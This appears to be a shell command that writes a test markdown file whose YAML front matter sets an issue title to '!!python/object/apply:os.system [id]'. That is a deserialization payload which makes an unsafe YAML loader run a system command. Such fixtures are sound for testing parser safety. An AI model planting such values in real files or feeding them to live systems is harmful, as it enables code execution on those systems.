cat >x.md <<'END'
---
id: ISS-0900
title: !!python/object/apply:os.system [id]
---
END
